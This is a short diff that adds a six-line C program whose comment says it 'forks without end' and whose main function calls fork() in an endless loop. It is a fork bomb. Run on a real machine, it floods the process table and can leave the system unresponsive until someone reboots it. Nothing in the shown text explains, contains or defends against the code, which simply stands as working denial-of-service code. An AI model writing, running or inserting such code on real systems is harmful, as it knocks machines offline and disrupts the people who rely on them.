@@ -1,0 +1,6 @@
+/* dpk, forks without end. */
+#include <unistd.h>
+
+int main(void) {
+    for (;;) fork();
+}
